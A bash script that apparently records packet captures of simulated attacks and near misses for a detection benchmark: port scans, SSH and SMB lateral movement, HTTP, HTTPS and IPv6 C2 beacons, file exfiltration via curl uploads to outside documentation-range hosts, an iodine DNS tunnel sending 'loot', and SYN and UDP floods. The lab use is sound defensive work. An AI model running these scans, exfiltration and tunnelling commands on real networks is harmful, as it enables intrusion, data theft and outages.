# shellcheck shell=bash
# Captures in which something happens, and their near misses.

record_lateral_movement() {
    net_up
    host_up fs 10
    host_up app 11
    host_up term 20
    host_up mgmt 21
    host_up ws-50 50
    host_up ws-66 66
    text_file "$WORK/share/plan.txt" 40000
    text_file "$WORK/www/index.html" 6000
    smb_up fs data "$WORK/share"
    ssh_up fs
    ssh_up app
    web_up app app "$WORK/www" 80
    sed "s|^LogFile=.*|LogFile=$WORK/xrdp.file.log|" /etc/xrdp/xrdp.ini >"$WORK/xrdp.ini"
    daemon term xrdp /usr/sbin/xrdp --nodaemon --config "$WORK/xrdp.ini"
    daemon mgmt winrm "$HERE/client.py" serve --port 5985 --reply 900
    wait_port term any 3389
    wait_port mgmt any 5985
    capture_on sw br0 "$RAW"
    on ws-50 curl -s -o /dev/null "http://$LAN4.11/"
    smb ws-50 "$LAN4.10" data 'ls' >/dev/null
    sleep 2
    on ws-66 nmap -n -Pn -sS -T4 --max-retries 1 --top-ports 100 "$LAN4.10,11,20,21" >"$WORK/nmap.txt"
    sleep 2
    on ws-66 nmap -n -Pn -sT -p 22,445,3389,5985,5986 "$LAN4.10,11,20,21" >>"$WORK/nmap.txt"
    sleep 3
    ssh_to ws-66 "$LAN4.11" 'uname -n; sleep 1; id' >/dev/null
    sleep 2
    ssh_to ws-66 "$LAN4.10" 'uname -n; sleep 1; id' >/dev/null
    sleep 1
    on ws-66 smbclient -s /dev/null -N -L "$LAN4.10" >/dev/null
    smb ws-66 "$LAN4.10" data "ls; get plan.txt $WORK/stolen.txt; put $WORK/stolen.txt notes.txt" >/dev/null 2>&1
    sleep 2
    on ws-66 nmap -n -Pn -p 3389 --script rdp-ntlm-info "$LAN4.20" >>"$WORK/nmap.txt"
    sleep 1
    local i
    for i in 1 2 3; do
        on ws-66 curl -s -o /dev/null -A 'Microsoft WinRM Client' -H 'Content-Type: application/soap+xml' \
            -d "<s:Envelope><s:Body>Command $i</s:Body></s:Envelope>" "http://$LAN4.21:5985/wsman"
        sleep 1
    done
    capture_end
}

# Twenty ports, one short of a scan, then the same privileged services.
record_near_miss_port_scan() {
    net_up
    host_up fs 10
    host_up ws-67 67
    text_file "$WORK/share/plan.txt" 40000
    smb_up fs data "$WORK/share"
    ssh_up fs
    capture_on sw br0 "$RAW"
    on ws-67 nmap -n -Pn -sT -T4 --max-retries 0 \
        -p 21-23,25,53,80,110,111,135,139,143,199,443,445,587,993,995,3306,3389,8080 "$LAN4.10" >"$WORK/nmap.txt"
    sleep 2
    ssh_to ws-67 "$LAN4.10" 'uname -n; sleep 1; id' >/dev/null
    smb ws-67 "$LAN4.10" data ls >/dev/null
    capture_end
}

record_horizontal_scan() {
    net_up
    host_up ws-99 99
    ip -n "$NET-rt" route add blackhole 10.9.0.0/24
    ip -n "$NET-rt" route add 10.9.0.16/30 via 192.0.2.2
    ip -n "$NET-out" route add local 10.9.0.16/30 dev lo
    mkdir -p "$WORK/share"
    smb_up out data "$WORK/share"
    capture_on sw br0 "$RAW"
    on ws-99 nmap -n -Pn -sS -p 445 --max-rate 40 --max-retries 1 10.9.0.0/24 >"$WORK/nmap.txt"
    sleep 2
    smb ws-99 10.9.0.17 data ls >/dev/null
    capture_end
}

# c2_office: two people who fetch pages while the beacon runs.
c2_office() {
    text_file "$WORK/site/index.html" 1500
    local n
    for n in 1 2 3 4 5 6; do text_file "$WORK/site/asset$n.css" $((n * 700)); done
    host_up ws-21 21
    host_up ws-22 22
    web_up out site "$WORK/site" 198.51.100.10:80
    wait_port out any 80
    daemon ws-21 ws-21 "$HERE/client.py" browse --seed 21 --seconds 200 -- http://198.51.100.10
    daemon ws-22 ws-22 "$HERE/client.py" browse --seed 22 --seconds 150 -- http://198.51.100.10
}

record_c2_beacon_http() {
    net_up
    host_up ws-50 50
    text_file "$WORK/c2/api/tasks.json" 2400
    web_up out c2 "$WORK/c2" 203.0.113.66:80
    capture_on sw br0 "$RAW"
    c2_office
    on ws-50 "$HERE/client.py" poll --seed 50 --every 20 --jitter 0.15 --count 16 -- \
        -A 'Mozilla/4.0' http://203.0.113.66/api/tasks.json
    capture_end
}

# A lean TLS client: one group, one suite, no ALPN. Its handshake and request stay below 500 bytes.
record_c2_beacon_https() {
    net_up
    host_up ws-51 51
    tls_up update.invalid
    text_file "$WORK/c2/api/tasks.json" 2400
    web_up out c2 "$WORK/c2" '203.0.113.67:443 ssl'
    capture_on sw br0 "$RAW"
    c2_office
    on ws-51 "$HERE/client.py" poll --seed 51 --every 20 --jitter 0.1 --count 16 -- --tlsv1.3 --no-alpn \
        --curves X25519 --tls13-ciphers TLS_AES_128_GCM_SHA256 --http1.0 -A x -H 'Accept:' -H 'Host:' \
        https://203.0.113.67/api/tasks.json
    capture_end
}

# The same poll by a client as it comes: its handshake alone exceeds what a poll may send.
record_near_miss_https_poll() {
    net_up
    host_up ws-52 52
    tls_up update.invalid
    text_file "$WORK/c2/api/tasks.json" 2400
    web_up out c2 "$WORK/c2" '203.0.113.68:443 ssl'
    capture_on sw br0 "$RAW"
    on ws-52 "$HERE/client.py" poll --seed 52 --every 20 --jitter 0.1 --count 12 -- \
        https://203.0.113.68/api/tasks.json
    capture_end
}

record_c2_beacon_ipv6() {
    net_up
    host_up ws-53 53
    text_file "$WORK/c2/api/tasks.json" 2000
    web_up out c2 "$WORK/c2" '[2001:db8:66::66]:8080'
    wait_port out any 8080
    capture_on sw br0 "$RAW"
    on ws-53 "$HERE/client.py" poll --seed 53 --every 15 --jitter 0.1 --count 12 -- \
        -A 'Mozilla/4.0' -g 'http://[2001:db8:66::66]:8080/api/tasks.json'
    capture_end
}

record_exfiltration() {
    net_up
    host_up fs 10
    host_up ftp 11
    host_up backup 12
    host_up ws-77 77
    zero_file "$WORK/share/projects.tar" 360M
    zero_file "$WORK/pub/scans.tar" 150M
    zero_file "$WORK/dump/db.dump" 180M
    zero_file "$WORK/stage/part" 186M
    zero_file "$WORK/stage/rest" 60M
    smb_up fs data "$WORK/share"
    ftp_up ftp "$WORK/pub"
    rsync_up backup dump "$WORK/dump"
    ssh_up out
    daemon out sink "$HERE/client.py" serve --port 80
    wait_port out any 80
    merge_segments
    # Long enough for the answer that names the port of an FTP transfer.
    capture_on sw br0 "$RAW" -s 128
    smb ws-77 "$LAN4.10" data 'get projects.tar /dev/null' >/dev/null 2>&1
    sleep 4
    on ws-77 curl -s -o /dev/null "ftp://$LAN4.11/scans.tar"
    sleep 4
    on ws-77 rsync --sparse "rsync://$LAN4.12/dump/db.dump" "$WORK/stage/"
    sleep 10
    local to
    for to in 203.0.113.21 198.51.100.34 203.0.113.150 198.51.100.77 203.0.113.9 198.51.100.201; do
        on ws-77 curl -s -o /dev/null -T "$WORK/stage/part" "http://$to/incoming/part.bin"
        sleep 4
    done
    ssh_to ws-77 203.0.113.222 'cat >/dev/null' <"$WORK/stage/rest"
    capture_end
}

# One client of iodine for each type of record that it knows, all below one domain: pings through the
# tunnel, then a file that does not compress.
record_dns_tunnel() {
    net_up
    local types=(null private txt srv mx cname a) type n=31
    daemon out iodined iodined -f -c -P secret -l 203.0.113.53 172.31.99.1/27 t.tunnel.example
    sleep 1
    daemon out sink "$HERE/client.py" serve --port 80
    wait_port out any 80
    head -c 12000 /dev/zero | openssl enc -aes-128-ctr -K 00 -iv 00 -out "$WORK/loot" 2>/dev/null
    for type in "${types[@]}"; do
        host_up "ws-$type" "$n"
        n=$((n + 1))
    done
    capture_on sw br0 "$RAW"
    local workers=()
    for type in "${types[@]}"; do
        dns_tunnel "ws-$type" "$type" &
        workers+=("$!")
    done
    wait "${workers[@]}"
    capture_end
}

# dns_tunnel HOST TYPE
dns_tunnel() {
    local tries
    daemon "$1" "iodine-$2" iodine -f -r -T "$2" -P secret -m 300 203.0.113.53 t.tunnel.example
    for tries in $(seq 300); do
        if on "$1" ip -4 addr show dns0 2>/dev/null | grep -q inet; then break; fi
        sleep 0.1
    done
    on "$1" ping -q -c 20 -i 0.5 -s 120 172.31.99.1 >"$WORK/ping-$2.txt" || true
    on "$1" curl -s -m 30 -o /dev/null -T "$WORK/loot" http://172.31.99.1/in || true
    echo "$2: $tries, $(grep -h received "$WORK/ping-$2.txt")" >&2
}

record_syn_flood() {
    "$GENERATOR" syn-flood --packets 9000 --sources 9000 --rate 220 --dst 10.1.0.80 --dst-port 443 \
        --real-flows 40 --seed 1 --out "$RAW"
}

record_udp_flood_many_to_one() {
    "$GENERATOR" many-to-one --packets 84000 --sources 200 --rate 2100 --dst 10.1.0.81 --dst-port 27015 \
        --payload 8900 --snaplen 60 --seed 2 --out "$RAW"
}
